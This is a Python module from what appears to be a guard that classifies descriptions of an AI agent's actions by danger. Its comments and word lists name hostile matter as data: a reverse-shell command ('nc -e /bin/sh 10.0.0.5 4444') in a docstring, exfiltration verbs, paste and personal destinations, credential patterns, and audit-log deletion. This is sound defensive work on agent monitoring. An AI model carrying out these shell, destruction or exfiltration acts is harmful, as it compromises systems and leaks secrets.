"""Understanding a sentence about an action: what is done (verb), to what (object), how widely
(scope), where (environment), and with which modifiers (force, sudo, dry run, negation).

Why not patterns over the sentence: "deleting all records from staging_users" and "drop_*" share
no glob, and "grepping the logs for 'DROP TABLE'" contains one without doing it. Instead the text is
tokenised once, words are reduced to lemmas, the sentence is cut into clauses at conjunctions and
purpose/relative markers, and each clause is judged as a frame: the verb's act (vocabulary.Act)
combined with the object classes, scope, environment and modifiers found in the same clause.
Quoted text is data, and what follows a piece of documentation ("a README that explains why
rm -rf / is blocked") is content, not action.

Every lookup is a dict or set hit over the token list (the keyword-anchor idea of
python-ecosystem.md §3): no regex runs over the whole vocabulary.
"""

from __future__ import annotations

import ipaddress
import itertools
import re
import unicodedata
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field, replace

from dongle.classify.act_classes import (
    ACT_CLASSES,
    ADDED_VERBS,
    MORE_NOMINALS,
    PLACING_ACTS,
    PROTECTING_ACTS,
    act_noun_head,
)
from dongle.classify.act_place import COMPARING, LATER_OPENERS, not_the_place
from dongle.classify.act_position import attributive_compound, not_an_act_position
from dongle.classify.command import loses_data
from dongle.classify.quoted_names import is_argument, unquoted_name
from dongle.classify.reach import whole_reach
from dongle.classify.transfer_source import TOWARD_PREPOSITIONS, address_is_source, names_the_source
from dongle.classify.vague_acts import loose_on_nothing_named, said_of_others
from dongle.classify.vocabulary import (
    ABSTRACT_NOUNS,
    ACCOUNT_NOUN_PROVIDERS,
    ACRONYM_OBJECTS,
    CATASTROPHIC_PHRASES,
    CLOUD_ACCOUNT_NOUNS,
    CLOUD_PROVIDERS,
    CODE_IDENTIFIERS,
    COMPOUND_OBJECTS,
    DETERMINERS,
    FUNCTION_WORDS,
    GENERIC_WORDS,
    HARDCODED,
    HOME_FOLDERS,
    INSTRUCTION_SOURCES,
    MARKERS,
    NARROWING,
    NOMINALS,
    OBJECTS,
    ORDINAL_NOUNS,
    PERSON_TEST_KINDS,
    PHRASAL_VERBS,
    PLACING_VERBS,
    PRINCIPAL,
    PRIVILEGED_ROLES,
    PROTECTIONS,
    PROVIDER_TENANTS,
    PUBLIC_ENDPOINTS,
    PUBLIC_PRINCIPALS,
    QUANTITIES,
    RECENT,
    REGENERATED,
    REGISTRY_PHRASES,
    REPO_COPIES,
    REPORTING,
    SELF_CONTAINED_VERBS,
    SELF_MADE_VERBS,
    SENSITIVE_RECORDS,
    SHARED_PLACES,
    SOURCE_PREPOSITIONS,
    STOPWORDS,
    TELL_VERBS,
    THROWAWAY,
    TOOL_ACTS,
    VERBS,
    WHOLE_STORES,
    Act,
    Obj,
    words,
)
from dongle.levels import DangerLevel
from dongle.rules.facts import PASTE_HOSTS, untrusted_host

L = DangerLevel
VERB_ACT: dict[str, Act] = {w: vc.act for vc in (*VERBS, *ACT_CLASSES) for w in vc.words}
OBJ_CLASS: dict[str, Obj] = {w: oc.obj for oc in OBJECTS for w in oc.words}
_MARKER_WORDS = frozenset().union(*(getattr(MARKERS, f) for f in MARKERS.__dataclass_fields__))
# Verbs that put something into a place (an issue, a document, a channel): who reads the place reads it
PLACING = PLACING_VERBS | PLACING_ACTS
ACT_NOUNS = {**NOMINALS, **MORE_NOMINALS}  # nouns of action, read as their verbs
LEXICON: frozenset[str] = frozenset(
    set(VERB_ACT)
    | set(OBJ_CLASS)
    | _MARKER_WORDS
    | {w for pair in PHRASAL_VERBS for w in pair}
    | {w for pair in COMPOUND_OBJECTS for w in pair}
    | {w for phrase in CATASTROPHIC_PHRASES for w in phrase}
    | {"raw", "ip", "kill"}
)
# Reading verbs whose product is a number or a picture of what was read, made where the agent works
ANALYSIS_VERBS = words("chart plot graph visualize visualise compute calculate tally") | {
    "work out", "working out", "figure out"}
# (`retrieve`, an SDK's word for get, shows a secret's value as get does; "fetching the kubeconfig" brings a
# copy into the local store, as `git fetch` does, without showing it)
REVEAL_WORDS = words("read show view get retrieve print display cat dump output echo printenv reveal open")
PERMISSION_VERBS = words("chmod chown chgrp setfacl")
EXPOSE_VERBS = words(
    "make set change turn switch mark flip toggle open publish enable allow put apply grant") | {
    "turn on", "switch on"
}
INFRA_CHANGE = words(
    "deploy scale update apply migrate restart push release change modify set configure upgrade "
    "rollback edit write patch replace install enable provision launch rebuild reload resize"
)
PUBLISH_VERBS = words("push upload release submit ship deploy")
ACCOUNT_ENDING = words("close cancel terminate shut delete remove destroy deactivate tear")
SOFT_OBJECTS = frozenset({Obj.EPHEMERAL, Obj.CONTAINER})
DESTROY_TARGETS = frozenset(
    {
        Obj.DATA,
        Obj.INFRA,
        Obj.REPO,
        Obj.BRANCH,
        Obj.WORK,
        Obj.CONTAINER,
        Obj.BACKUP,
        Obj.PROCESS,
        Obj.MESSAGE,
        Obj.CODE,
        Obj.TEXT,
        Obj.PERSISTENCE,
    }
)
PROD_SENSITIVE = frozenset(
    {Obj.DATA, Obj.INFRA, Obj.REPO, Obj.BACKUP, Obj.BRANCH, Obj.CONTAINER, Obj.MESSAGE}
)
OWN_DEVICES = words("laptop desktop usb thumbdrive workstation phone")
PUBLIC_VERBS = words("tweet publish broadcast announce blog")  # the audience is everyone
NEW_SECRET_VERBS = words("generate create")  # a new key or token is harmless until it is shared
PUBLIC_DESTINATIONS = words("public pastebin paste gist anonymous")
MALICIOUS_VERBS = words("exfiltrate leak steal")
MONEY_VERBS = words(
    "create make issue process execute run submit initiate approve pay refund charge capture send"
)
PERSONAL_DESTINATIONS = words("personal gmail yahoo hotmail outlook protonmail dropbox wetransfer private")
# What a network rule opens, and where from: "port 22 to 0.0.0.0/0", "all ports to the internet".
NETWORK_OPENINGS = words("port ports ingress inbound security-group sg firewall rule rules egress outbound "
                         "network")
WHOLE_DATASETS = words("database db table collection dataset dump crm list export backup")
SECRET_VAR_PARTS = words("secret token password passwd pass key apikey credential credentials pat")

MAX_CHARS = 8000
# A hint names paths without saying where the agent stands: relative paths are taken as inside a
# project, `~` as some home directory (never the dongle's own process environment).
HINT_HOME = "/home/agent"
HINT_CWD = "/home/agent/work/project"
SCRATCH_ROOTS = frozenset({"/tmp", "/var/tmp", "/dev/shm", "/private/tmp"})
QUOTE_TOKEN = "__quoted__"  # stands in for quoted text: it is data, but it makes a hint specific

_QUOTED = re.compile(r"`[^`]*`|\"[^\"]*\"|(?<!\w)'[^']*'(?!\w)")
# "$4,800": an amount of money is one token (a value), never a count of "800 payments"
# "all 14,000 subscriptions": a count written with thousands separators is one number, not two clauses
_TOKEN = re.compile(r"[$€£]?\d{1,3}(?:,\d{3})+(?:\.\d+)?(?![\w,])|[\w~./$@#%+*=:'\-]+|[,;|&{}\[\]()]")
_SUBTOKEN = re.compile(r"[-_./:=@]+|(?<=[a-z0-9])(?=[A-Z])")
_DASH = re.compile(r"^-{1,3}$")
_URL = re.compile(r"^[a-z][a-z0-9+.\-]*://", re.I)
_IPV4 = re.compile(r"^\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?$")
_DOMAIN = re.compile(
    r"^(?:[a-z0-9](?:[a-z0-9\-]*[a-z0-9])?\.)+(?:com|net|org|io|dev|sh|co|ai|app|me|xyz|"
    r"info|biz|ru|cn|tk|top|cloud|site|online|de|uk|us|eu|fr|nl|link|click|zip)$",
    re.I,
)
# A bare file name ("app.js", "utils.py") is a path in the project, like "src/app.js".
_FILE_NAME = re.compile(
    r"^[\w.-]+\.(?:py|pyi|js|mjs|cjs|ts|tsx|jsx|go|rs|java|kt|rb|php|c|h|cc|cpp|hpp|cs|swift|md|rst|txt|json|"
    r"yaml|yml|toml|cfg|ini|conf|sh|bash|sql|csv|tsv|html|css|scss|xml|lock|env|pem|key|tf|tfvars|ipynb|zip|tar|gz|"
    r"graphql|gql|proto|vue|svelte|gradle|kts|dart|ex|exs|erl|scala|clj|lua|jl|sass|less|mdx|adoc|properties|"
    r"old|orig|bak|log|out|pid|patch|diff|jsonl|ndjson|parquet|db|sqlite|sqlite3|dump|tgz)$",
    re.I,
)
_NUMBER = re.compile(r"^\d[\d,_]*$")
_WORD = re.compile(r"^[a-z][a-z']*(?:-[a-z0-9]+)*$")
_ASSIGN = re.compile(r"^[a-z_][a-z0-9_\-]*=(.+)$", re.I)
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2064\ufeff]")


def normalise(text: str) -> str:
    """NFKC, control and zero-width characters removed: the same text a human reviewer would read."""
    return _CONTROL.sub(" ", unicodedata.normalize("NFKC", text))


_LEMMAS: dict[str, str] = {}


def lemma(word: str) -> str:
    """Reduce an inflected word to a lemma the vocabulary knows (`dropping` -> `drop`), else itself."""
    hit = _LEMMAS.get(word)
    if hit is None:
        hit = _lemma(word)
        if len(_LEMMAS) < 20000:
            _LEMMAS[word] = hit
    return hit


def _lemma(w: str) -> str:
    if w in LEXICON:
        return w
    base = w[:-1] if w.endswith("s") and w[:-1] in ACT_NOUNS else w
    if base in ACT_NOUNS:
        return ACT_NOUNS[base]
    if w.endswith("'s"):
        w = w[:-2]
        if w in LEXICON:
            return w
    cands: list[str] = []
    if w.endswith(("ies", "ied")):
        cands.append(w[:-3] + "y")
    if w.endswith("ing") and len(w) > 4:
        b = w[:-3]
        cands += [b, b + "e"]
        if len(b) > 2 and b[-1] == b[-2]:
            cands.append(b[:-1])
    if w.endswith("ed") and len(w) > 3:
        b = w[:-2]
        cands += [b, w[:-1]]
        if len(b) > 2 and b[-1] == b[-2]:
            cands.append(b[:-1])
    if w.endswith("es"):
        cands.append(w[:-2])
    if w.endswith("s") and not w.endswith("ss"):
        cands.append(w[:-1])
    if w.endswith("ed"):  # "left unscheduled", "the flagged invoices": a state, not the added verbs' act
        cands = [c for c in cands if c not in ADDED_VERBS]
    for c in cands:
        if c in LEXICON:
            return c
    return w


@dataclass
class Tok:
    raw: str
    low: str
    kind: str  # word | path | flag | num | ident | url | host | ip | punct
    lem: str = ""
    subs: tuple[str, ...] = ()
    obj: Obj | None = None
    path_class: str | None = None  # region or sensitivity the path classifier reported
    quoted: bool = False  # a name the writer put in quotes: its words, never an act


_AUDIT_TRAIL = re.compile(r"^/var/log/(?:audit|auth\.log|secure|wtmp|btmp|lastlog)")
# One application's own log directory (`/var/log/app/*.log`, `/var/log/nginx/access.log`): its lines
# are data that application wrote, lost when truncated (a pause), not the host's record of itself
_APP_LOGS = re.compile(r"^/var/log/(?!audit\b|journal\b)[\w.-]+/[^/]")


# A secret engine's key path, as Vault writes them (`secret/prod/stripe`, `kv/data/app/db`): a bare
# relative path under a secret mount, with no file name in it
_SECRET_ENGINE_PATH = re.compile(r"^(?:secrets?|kv)(?:/[\w-]+){1,5}/?$", re.I)


def _path_info(value: str) -> tuple[Obj | None, str | None]:
    """Object class of a path, from dongle.paths when available (imported lazily: it is H2's module)."""
    try:
        from dongle.paths import classify_path
    except ImportError:  # pragma: no cover - the module ships with the package
        return None, None
    info = classify_path(value, HINT_CWD, HINT_HOME, {})
    sens, region = info.sensitivity, info.region
    if info.path in SCRATCH_ROOTS:
        return Obj.EPHEMERAL, "scratch"
    if region == "project" and value.endswith(".log"):
        return Obj.EPHEMERAL, "log"  # app.log in the workspace: output the app writes again
    if region == "git" and value.endswith(".lock"):
        return Obj.EPHEMERAL, "lock"  # .git/index.lock: a crashed git's leftover, not history
    if region in ("root", "git"):
        return Obj.SYSTEM, region
    if region == "system" and _AUDIT_TRAIL.search(info.path or ""):
        return Obj.SECURITY, region  # /var/log/audit, the audit daemon's records: removing them hides acts
    if region == "system" and _APP_LOGS.match((info.path or "") + ("/*" if info.glob else "")):
        return Obj.DATA, "application log"  # `/var/log/app/*.log` reads as the directory and a glob
    if region == "home" and info.path == HINT_HOME:
        return Obj.HOME, region
    if region == "device":
        return Obj.DEVICE, region
    if sens in ("credential", "project_secret"):
        return Obj.SECRET, sens
    if sens == "system_auth":
        return Obj.PRIV_ESC, sens
    if sens in ("agent_config", "dongle_self"):
        return Obj.SECURITY, sens  # the agent's hooks and the guard's own state are its controls
    if sens == "shell_startup":
        return Obj.PERSISTENCE, sens
    if region == "system":
        return Obj.SYSTEM, region
    if region == "home":
        inside = info.path[len(HINT_HOME) :].strip("/").split("/") if info.path.startswith(HINT_HOME) else []
        if len(inside) >= 2:
            return Obj.CONTAINER, "home-nested"  # ~/Downloads/old-backups: a folder, not the home
        return Obj.HOME, region
    if region == "pseudo":
        return None, region
    if region == "network":
        return Obj.CODE, region
    if _SECRET_ENGINE_PATH.match(value):
        return Obj.SECRET, "secret store"  # `secret/prod/stripe`: a key in Vault's KV engine, its value
    segments = {s.lower() for s in value.split("/") if s}
    # a project folder named as temporary (tmp-fixtures, temp_output) is scratch, like tmp/
    named_temp = any(re.match(r"^\.?te?mp[-_]", seg) for seg in segments)
    if info.regenerable or region == "scratch" or segments & {"tmp", "temp", ".tmp"} or named_temp:
        return Obj.EPHEMERAL, "regenerable" if info.regenerable else "scratch"
    return Obj.CONTAINER, region


def _looks_like_path(word: str) -> bool:
    if not word or word.startswith("-") or "://" in word:
        return False
    if word[0] == "~" and word[1:2].isdigit():
        return False  # "~2h", "~3.5GB": 'about', never a home (a user name does not start with a digit)
    return word[0] in "/~.$" or "/" in word


def tokenize(text: str, mask_quotes: bool = True) -> list[Tok]:
    """Tokens of `text`; quoted spans become one opaque `quote` token when `mask_quotes`."""
    names: list[str] = []
    if mask_quotes:
        text = _QUOTED.sub(lambda m: _masked(m.group(0), names, is_argument(text, m.start())), text)
    out: list[Tok] = []
    for m in _TOKEN.finditer(text):
        raw = m.group(0)
        if raw.startswith(_NAME_SLOT) and raw[len(_NAME_SLOT):].isdigit():
            out.append(_name_token(names[int(raw[len(_NAME_SLOT):])]))
            continue
        if raw in ",;|&{}[]()" or _DASH.match(raw):
            out.append(Tok(raw, raw, "punct"))  # a dash between words ("fix it - running it") is no name
            continue
        full_stop = not text[m.end():].strip() or text[: m.start()].rstrip().endswith((")", "]", '"'))
        if raw == "." and full_stop:
            continue  # "… (pid 5521)." : the sentence's full stop, not the directory "."
        # "Nothing destructive: truncating ...": a colon after a word ends what came before
        colon = raw.endswith(":") and raw[:-1].isalpha() and text[m.end() : m.end() + 1].isspace()
        if raw not in (".", "..", "/", "~", "~/") and not raw.startswith(".."):
            raw = raw.rstrip(".:'").lstrip("'")
        if raw[:1] == "-" and raw[1:2].isalpha() and m.start() and text[m.start() - 1].isdigit():
            raw = raw[1:]  # "the 9,000-customer thread": the word hyphenated to a count is what is counted
        if not raw:
            continue
        tok = _classify_token(raw)
        if out and tok.kind == "word" and tok.lem in _ROUTE_NOUNS and out[-1].kind == "path" \
                and out[-1].raw.startswith("/") and out[-1].low.split("/")[1] not in _SYSTEM_TOPS:
            out[-1] = ident_token(out[-1].raw)  # "the /v1/users handlers": a route's name, not a file
        out.append(tok)
        if colon:
            out.append(Tok(";", ";", "punct"))
    return _routes_named(out)


_NAME_SLOT = "__name__"  # stands in for a quoted name until the tokens are read


def _masked(span: str, names: list[str], argument: bool) -> str:
    """A quoted name keeps its place as a name (quoted_names.py); other quoted text, and a quoted argument
    in code or JSON, is opaque data."""
    name = None if argument else unquoted_name(span)
    if name is None:
        return f" {QUOTE_TOKEN} "
    names.append(name)
    return f" {_NAME_SLOT}{len(names) - 1} "


def _name_token(name: str) -> Tok:
    """A quoted name read as it is read bare, its words carried; a plain or hyphenated word is a name
    here, not a verb ('refund-delay' names a label, 'archived' a status)."""
    tok = _classify_token(name)
    if tok.kind not in ("word", "ident"):
        return replace(tok, quoted=True)
    return Tok(name, tok.low, "ident", subs=_subtokens(name), obj=tok.obj, quoted=True)


_ROUTE_WORDS = frozenset({"route", "routes", "endpoint", "endpoints", "handler", "controller"})


def _routes_named(tokens: list[Tok]) -> list[Tok]:
    """ "the /v1/ping route", "the /healthz endpoint": an HTTP route in the code, not a file on disk."""
    for i, (t, nxt) in enumerate(itertools.pairwise(tokens)):
        # not a system or home directory: `/etc/nginx endpoint config` is still /etc
        if t.kind == "path" and t.path_class == "outside" and t.raw[:1] == "/" and nxt.low in _ROUTE_WORDS:
            tokens[i] = Tok(t.raw, t.low, "ident", subs=t.subs)
    return tokens


_ROUTE_NOUNS = words("endpoint route handler controller resolver")
_SYSTEM_TOPS = words("etc var usr home opt bin sbin tmp root boot dev srv lib lib64 proc sys mnt media run "
                     "users library system applications private volumes")


def ident_token(raw: str) -> Tok:
    """A name that only tells where (a server, a host alias): it carries environment words, no object."""
    return Tok(raw, raw.lower(), "ident", subs=_subtokens(raw))


_PRODUCT_JS = re.compile(r"^[A-Z][A-Za-z]*\.js$")


def _subtokens(raw: str) -> tuple[str, ...]:
    return tuple(p.lower() for p in _SUBTOKEN.split(raw) if p)


def _classify_token(raw: str) -> Tok:
    if raw in ACRONYM_OBJECTS:
        return Tok(raw, raw.lower(), "word", lem=raw.lower(), obj=ACRONYM_OBJECTS[raw])
    if raw in HOME_FOLDERS:
        return Tok(raw, raw.lower(), "word", lem=raw.lower(), obj=HOME_FOLDERS[raw])
    low = raw.lower()
    if low in CODE_IDENTIFIERS or _PRODUCT_JS.match(raw):  # `Next.js`, `Node.js`: a framework, no file
        return Tok(raw, low, "ident", subs=_subtokens(raw))
    if _LIVE_SECRET.match(raw):  # `sk_live_…`, `ghp_…`, `AKIA…`: a credential by its provider's format
        return Tok(raw, low, "ident", obj=Obj.SECRET, subs=_subtokens(raw))
    if low.isalpha() and low.isascii():  # the common case: a plain word, no regex needed
        lem = lemma(low)
        return Tok(raw, low, "word", lem=lem, obj=OBJ_CLASS.get(lem))
    if _URL.match(low):
        host = low.split("://", 1)[1].split("/", 1)[0].split("@")[-1].split(":")[0]
        return Tok(raw, low, "url", subs=(*_subtokens(host), host))
    if _IPV4.match(low):
        return Tok(raw, low, "ip", subs=(low.split(":")[0],))
    if low.startswith("-") and len(low) > 1:
        return Tok(raw, low, "flag", lem=low)
    if _NUMBER.match(low) or (low[:1] == "~" and _NUMBER.match(low[1:])):
        return Tok(raw, low, "num")  # "~400 tickets": about 400, not the home of a user named 400
    if raw.startswith("$") and len(raw) > 1:
        subs = _subtokens(raw.lstrip("${").rstrip("}"))
        secret = bool(set(subs) & SECRET_VAR_PARTS)
        if secret or not _looks_like_path(raw[1:]):
            return Tok(raw, low, "ident", subs=subs, obj=Obj.SECRET if secret else None)
    value = raw
    m = _ASSIGN.match(raw)
    if m and not _WORD.match(low):
        value = m.group(1)
    host = value.split("/", 1)[0].lower()
    if "/" in value and host in MARKERS.registry:
        # `ghcr.io/acme/api`, `docker.io/library/redis`: an image in a registry, not a project path
        return Tok(raw, low, "url", subs=(*_subtokens(value), host))
    if _looks_like_path(value) or _FILE_NAME.match(value):
        obj, cls = _path_info(value)
        return Tok(raw, low, "path", obj=obj, path_class=cls, subs=_subtokens(value))
    if _DOMAIN.match(low):
        return Tok(raw, low, "host", subs=_subtokens(low))
    if _WORD.match(low):
        lem = lemma(low)
        if lem in LEXICON or "-" not in low:
            return Tok(raw, low, "word", lem=lem, obj=OBJ_CLASS.get(lem))
        return Tok(raw, low, "ident", subs=_subtokens(raw), obj=OBJ_CLASS.get(low))
    subs = _subtokens(raw)
    obj = OBJ_CLASS.get(low) or _compound_in(subs) or (Obj.SECRET if _secret_variable(raw, subs) else None)
    return Tok(raw, low, "ident", subs=subs, obj=obj)


_CONNECTION_PARTS = words("database db redis mongo mongodb postgres pg mysql amqp broker")
_ADDRESS_PARTS = words("url uri dsn")


def _secret_variable(raw: str, subs: tuple[str, ...]) -> bool:
    """`GITHUB_TOKEN`, `AWS_SECRET_ACCESS_KEY`, `DATABASE_URL`: an environment variable named for a
    credential (upper case, as variables are written), whose value is the secret itself."""
    if not raw.isupper() or "_" not in raw:
        return False
    parts = set(subs)
    if "key" in parts and not parts & _KEY_QUALIFIERS:
        parts.discard("key")  # PRIMARY_KEY, SORT_KEY name columns, not credentials
    return bool(parts & SECRET_VAR_PARTS) or bool(parts & _CONNECTION_PARTS and parts & _ADDRESS_PARTS)


_KEY_QUALIFIERS = words("api secret access private signing master encryption ssh gpg deploy license stripe")


def _compound_in(subs: tuple[str, ...]) -> Obj | None:
    """`audit_log`, `api-key`: an identifier made of a two-word object names that object."""
    for a, b in itertools.pairwise(subs):
        obj = COMPOUND_OBJECTS.get((lemma(a), lemma(b)))
        if obj is not None:
            return obj
    return None


_VERB_MODIFIERS = words("bulk mass batch force")


def split_hyphenated(tokens: list[Tok]) -> list[Tok]:
    """`force-push`, `tear-down`, `bulk-deleting`: split into words when the parts are a known verb or
    particle, a rehearsal's word, or a modifier before an inflected verb. A part with digits
    (`checkout-7f9c`, a pod's generated suffix) makes the whole a name, whatever its first word; so does
    the compound's place between a determiner and a noun ("the credential-dumping alert"): an adjective."""
    out: list[Tok] = []
    for i, t in enumerate(tokens):
        if (t.kind == "ident" and not t.quoted and "-" in t.low and _WORD.match(t.low)
                and t.low not in GENERIC_WORDS and not any(c.isdigit() for c in t.low)
                and not attributive_compound(tokens, i)):
            parts = t.low.split("-")
            if (
                parts[0] in VERB_ACT
                or lemma(parts[0]) in VERB_ACT
                # `simulate-principal-policy`, `what-if-deployment`: an API named for a rehearsal
                # rehearses, whatever it rehearses; the words after it are what it is run against
                or parts[0] in MARKERS.dry_run
                or (len(parts) == 2 and (lemma(parts[0]), lemma(parts[1])) in PHRASAL_VERBS)
                # "force-rebuilding", "bulk-deleting": a modifier, then the verb that is the act; a
                # scope or force word is a modifier in any form ("Bulk-delete every message")
                or (len(parts) == 2 and lemma(parts[1]) in VERB_ACT
                    and (parts[1].endswith(("ing", "ed")) or parts[0] in _VERB_MODIFIERS))
            ):
                out.extend(Tok(p, p, "word", lem=lemma(p), obj=OBJ_CLASS.get(lemma(p))) for p in parts)
                continue
        out.append(t)
    return out


# Particles a phrasal verb may leave after its object ("tearing the stack down", "handing the export over to
# the agency"), and the words after which the particle stands at the object's end (a place, a purpose, an end)
_PARTICLES = words("down over off out away up back")
_AFTER_PARTICLE = words("to in on at for from into onto so before after while then and now today tonight "
                        "again completely entirely")
_PARTICLE_REACH = 6  # an object phrase's words, at most, between the verb and its particle


def separated_particles(tokens: list[Tok]) -> list[Tok]:
    """A phrasal verb whose particle follows its object is the same act as with the particle beside it:
    "tearing the prod stack down" tears down the prod stack, "handing the customer export over to the
    agency" hands it over. The particle is moved next to its verb when only a noun phrase (no verb, no
    punctuation) stands between them and the particle ends that phrase."""
    out = list(tokens)
    for i, t in enumerate(out):
        if t.kind != "word" or not any((t.lem, p) in PHRASAL_VERBS for p in _PARTICLES):
            continue
        for j in range(i + 1, min(i + 2 + _PARTICLE_REACH, len(out))):
            u = out[j]
            if u.kind == "punct" or (j > i + 1 and _is_verb(u) and u.low not in _PARTICLES):
                break
            if u.kind == "word" and u.low in _PARTICLES and (t.lem, u.low) in PHRASAL_VERBS:
                end = out[j + 1] if j + 1 < len(out) else None
                if j > i + 1 and (end is None or end.kind == "punct" or end.low in _AFTER_PARTICLE):
                    out[i + 1:j + 1] = [u, *out[i + 1:j]]
                break
    return out


_ENDPOINTS = words("endpoint endpoints api route mutation webhook")
_CALLING = words("call calling called calls hit hitting invoke invoking trigger triggering")


def _named_endpoints(tokens: list[Tok]) -> list[Tok]:
    """ "calling the GDPR erase endpoint": an endpoint named for an act does that act when it is called;
    the act takes the call's place ("erase the GDPR ... for them"), so what it does is judged."""
    out = list(tokens)
    for i, t in enumerate(tokens):
        if t.low not in _ENDPOINTS or not i or tokens[i - 1].kind != "word":
            continue
        act_tok = tokens[i - 1]
        if VERB_ACT.get(act_tok.lem or act_tok.low) in (None, Act.READ, Act.REVEAL, Act.VAGUE, Act.EXECUTE):
            continue
        call = next((j for j in range(i - 2, max(-1, i - 6), -1) if tokens[j].low in _CALLING), None)
        if call is None:
            continue
        out[call] = act_tok
        out = [u for k, u in enumerate(out) if k not in (i - 1, i)]
        return out
    return out


_CALLING = words("call calling calls use using uses invoke invoking invokes trigger triggering run running")
_TOOL_NOUNS = words("tool endpoint action function operation mutation api")


def _named_tool_calls(tokens: list[Tok]) -> list[Tok]:
    """A tool named for its act, called ("calling the Stripe refund tool for all charges", "using the
    GitHub delete-repository tool on acme/core"): the act is the verb in its name, done to what
    follows, and the calling verb only says how. Without this the act word reads as a modifier."""
    for i, t in enumerate(tokens):
        if t.lem not in _CALLING and t.low not in _CALLING:
            continue
        for j in range(i + 1, min(i + 7, len(tokens))):
            if tokens[j].low not in _TOOL_NOUNS:
                continue
            named = tokens[i + 1:j]
            acts = [k for k, u in enumerate(named) if _is_verb(u) and VERB_ACT.get(u.lem) is not Act.READ
                    and u.lem not in _CALLING]
            if not acts:
                break
            k = acts[0]
            verb = named[k]
            rest = [u for u in (*named[:k], *named[k + 1:]) if u.low not in _DETERMINERS | {"a", "an"}]
            return [*tokens[:i], replace(verb, kind="word"), *rest, *tokens[j + 1:]]
    return tokens


def _tool_acts(tokens: list[Tok]) -> list[Tok]:
    """A program named as the verb of a sentence ("pg_dump prod to my laptop") is the act it does, on the
    object it does it to: the words stand in its place."""
    out: list[Tok] = []
    for t in tokens:
        # "a pg_dump", "the mysqldump": a copy taken, named as a noun
        if t.low in TOOL_ACTS and not (out and out[-1].low in _DETERMINERS | {"a", "an"}):
            verb, obj = TOOL_ACTS[t.low]
            out.append(Tok(verb, verb, "word", lem=verb))
            out.append(Tok(obj, obj, "word", lem=obj, obj=OBJ_CLASS.get(obj)))
            continue
        out.append(t)
    return out


# Things nothing refers to any more, or this clone's copies of what the remote holds: a dangling image
# or tag is a layer no tag or container points at, a remote-tracking ref mirrors a branch the next
# fetch brings back. Deleting them loses nothing (`docker image prune`, `git fetch --prune`).
_UNREFERENCED = words("dangling remote-tracking")
_UNREFERENCED_HEADS = words("image images tag tags layer layers ref refs branch branches")
_NOUN_FILLER = words("docker git local old stale the my our " + QUOTE_TOKEN)


def _unreferenced_copies(tokens: list[Tok]) -> list[Tok]:
    """The head noun after "dangling" or "remote-tracking" (a few modifiers between) names a
    throwaway copy (EPHEMERAL), not a branch, a tag or an image someone uses."""
    out = list(tokens)
    for i, t in enumerate(tokens):
        if t.low not in _UNREFERENCED:
            continue
        for j in range(i + 1, min(i + 4, len(tokens))):
            u = tokens[j]
            if u.low in _UNREFERENCED_HEADS:
                out[j] = replace(u, obj=Obj.EPHEMERAL)
                break
            if u.low not in _NOUN_FILLER and u.kind != "ident":  # "dangling `myapp:dev-*` tags": a name
                break
    return out


# What a branch of code does with a condition: "the branches that check the flag", "the code paths which
# read it". A version-control branch checks, reads or tests nothing.
_CONDITION_VERBS = words("check checks read reads test tests gate gates guard guards evaluate evaluates")
# Words that place a branch in version control: a remote, a merge, a push
_REPOSITORY_WORDS = words("remote remotes origin upstream git merged unmerged pushed github gitlab bitbucket "
                          "repo repository fork")


def _code_branches(tokens: list[Tok]) -> list[Tok]:
    """ "the branches that read them": a branch whose relative clause checks a condition is code (an if's
    branch), not a version-control branch, unless the hint places it in a repository (remote, merged)."""
    out = list(tokens)
    if any(t.low in _REPOSITORY_WORDS for t in tokens):
        return out
    for i, t in enumerate(tokens[:-2]):
        if t.obj is Obj.BRANCH and tokens[i + 1].low in ("that", "which") \
                and tokens[i + 2].low in _CONDITION_VERBS:
            out[i] = replace(t, obj=Obj.CODE_PART)
    return out


@dataclass
class Finding:
    level: DangerLevel
    factor: str
    rule: str
    irreversible: bool = False
    verb: str = ""  # the verb judged, when the finding is one verb's ("read", "export")


@dataclass
class Clause:
    tokens: list[Tok]
    role: str  # main | coordinate | purpose | relative | content | question | answered | theirs | ...
    opener: str = ""  # the boundary word that opened it ("before", "until", "so", ...)


@dataclass
class ProseResult:
    findings: list[Finding] = field(default_factory=list)
    acts: list[Act] = field(default_factory=list)  # the verbs' acts, in reading order
    vague: bool = False
    specific: bool = False
    prod: list[str] = field(default_factory=list)
    nonprod: list[str] = field(default_factory=list)
    verbs: list[str] = field(default_factory=list)  # the verbs done (not negated), in reading order
    negated: list[str] = field(default_factory=list)  # verbs refused or only supposed
    described: list[str] = field(default_factory=list)  # words saying a quoted action is only talked about
    deferred: list[str] = field(default_factory=list)  # "not yet", "next", or written into a script

    @property
    def level(self) -> DangerLevel:
        return max((f.level for f in self.findings), default=L.REVERSIBLE)


# Writing code that would do something is not doing it: "writing the migration that drops a column".
AUTHORED = words("migration script function test module class snippet program query method handler patch")
AUTHORING_VERBS = words("write create add draft author generate implement scaffold code prepare")
_BOUNDARY_WORDS = words("then before after while so because since once until unless whereas but")
# "that contains", "which holds": a relative clause that says what its noun carries, not a second act
_CONTAINING = words("contain contains include includes hold holds carry carries list lists")
_RELATIVE_WORDS = words("that which who why how explaining describing saying about mentioning")


# "checking whether", "asking if", "seeing what": the clause after is a question, not an action.
_INTERROGATIVES = words("whether if what which how who why where when")
QUESTION_VERBS = words(
    "check ask verify see determine confirm find figure investigate test wonder evaluate assess decide "
    "consider estimate know learn explore review inspect examine preview list show print display "
    "understand trace diagnose debug read count"
)
# Verbs whose "that ..." clause is a claim tested, not an act ("making sure that" or "ensuring that"
# can bring the act about, so they are not here)
_CHECKED_THAT = words("check verify confirm test double-check recheck")
# What a claim says works or runs ("... connects", "... still works"): it is tested by running it
_RUN_CLAIMS = words("work works working connect connects connecting run runs running fire fires execute "
                    "executes capture captures capturing")


def _tested_by_running(claim: Sequence[Tok]) -> bool:
    """The claim after "checking that" names a command line (a flag) or says something works or runs
    ("checking that nc -e /bin/sh 10.0.0.5 4444 connects"): the check is made by running it."""
    for t in claim:
        if t.kind == "punct":
            return False
        if t.kind == "flag" or t.low in _RUN_CLAIMS:
            return True
    return False


# "asking the user for confirmation before deleting ...": what follows "before" waits for a human
ASK_VERBS = words("ask request seek get wait")
ASKED_FOR = words("user human operator confirmation approval permission go-ahead consent you")
# "only after you confirm", "once the user approves": what comes before waits for a human
